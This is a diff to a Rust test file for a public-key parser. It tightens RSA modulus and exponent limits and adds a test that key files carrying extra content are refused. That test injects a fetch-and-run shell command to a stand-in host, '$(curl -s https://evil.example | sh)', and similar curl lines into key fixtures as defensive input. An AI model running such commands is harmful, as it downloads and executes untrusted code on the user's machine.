@@ -179,18 +179,62 @@ fn rsa_keys_have_bounds() {
         PublicKey::parse(armored.as_bytes())
     };
     assert!(read(&[0xff; 256], &[3]).is_ok());
-    assert!(read(&[0xff; 2048], &[1, 0, 1]).is_ok());
+    assert!(read(&[0xff; 1024], &[1, 0, 1]).is_ok());
+    assert!(read(&[0xff; 256], &[0xff; 4]).is_ok());
     for (modulus, bits) in
-        [(vec![0xff; 255], 2040), (vec![0x7f; 256], 2047), ([&[1], &[0xff; 2048][..]].concat(), 16385)]
+        [(vec![0xff; 255], 2040), (vec![0x7f; 256], 2047), ([&[1], &[0xff; 1024][..]].concat(), 8193)]
     {
         assert_eq!(read(&modulus, &[3]), Err(KeyError::Unsupported(format!("an RSA key of {bits} bits"))));
     }
+    for (exponent, bits) in [(&[1, 0, 0, 0, 1][..], 33), (&[0xff; 100], 800)] {
+        let refused = Err(KeyError::Unsupported(format!("an RSA key with an exponent of {bits} bits")));
+        assert_eq!(read(&[0xff; 256], exponent), refused);
+    }
     let even = [&[0xff; 255][..], &[0xfe]].concat();
-    for (modulus, exponent) in
-        [(&[0xff; 256][..], &[1][..]), (&[0xff; 256], &[1, 0, 0]), (&[0xff; 256], &[0xff; 9]), (&even, &[3])]
-    {
+    for (modulus, exponent) in [(&[0xff; 256][..], &[1][..]), (&[0xff; 256], &[1, 0, 0]), (&even, &[3])] {
         assert!(matches!(read(modulus, exponent), Err(KeyError::Malformed(_))), "{exponent:?}");
     }
+}
+
+#[test]
+fn a_file_that_holds_more_than_a_key_is_none() {
+    let text = |path: &str| String::from_utf8(read(forms().join(path))).unwrap();
+    let dora = text("dora.openssh");
+    let command = "$(curl -s https://evil.example | sh)";
+    let carl = text("carl.json");
+    let subkeys = String::from_utf8(read(vectors::fixtures().join("forms/keys/subkeys.json"))).unwrap();
+    let json = [
+        carl.replacen('{', r#"{"scripts":{"preinstall":"x"},"#, 1),
+        carl.replacen('{', r#"{"type":{"x":"y"},"#, 1),
+        carl.replacen('{', &format!(r#"{{"hashes":["{command}"],"#), 1),
+        carl.replacen(r#""public""#, r#""scripts":"x","public""#, 1),
+        carl.replacen(r#""public""#, &format!(r#""certificate":"{command}","public""#), 1),
+        subkeys.replacen(r#""public": {"#, r#""public": {"x":"ab","#, 1),
+        subkeys.replacen('{', &format!(r#"{{"subkeys":{{"{command}":{{}}}},"#), 1),
+        subkeys.replacen('{', r#"{"subkeys":{"ab":{"scripts":{}}},"#, 1),
+    ];
+    assert!(json.iter().all(|text| *text != carl && *text != subkeys));
+    let minisign = text("dora.minisign");
+    let lines = [
+        format!("{} {command}", dora.trim_end()),
+        format!("{dora}curl https://evil.example\n"),
+        format!("{dora}#!/bin/sh;x\n"),
+        minisign.replacen("comment:", &format!("comment: {command}"), 1),
+        format!("{minisign}{minisign}"),
+        format!("{minisign}exit"),
+    ];
+    for text in json.iter().chain(&lines) {
+        let error = PublicKey::parse_all(text.as_bytes()).unwrap_err();
+        let is_named = matches!(&error, KeyError::Unsupported(what) if what.contains("curl"));
+        assert!(error == KeyError::NotAKey || is_named, "{error}: {text}");
+    }
+    // Who armours a key says that it is one: with a text around it it is refused as that.
+    let pem = text("dora.pub");
+    let inside = carl.replacen("-----BEGIN", "curl -----BEGIN", 1);
+    for text in [format!("{pem}curl https://evil.example | sh\n"), inside] {
+        assert!(matches!(PublicKey::parse(text.as_bytes()), Err(KeyError::Malformed(_))), "{text}");
+    }
+    assert_eq!(PublicKey::parse(format!("curl\n{pem}").as_bytes()), Err(KeyError::NotAKey));
 }
 
 #[test]
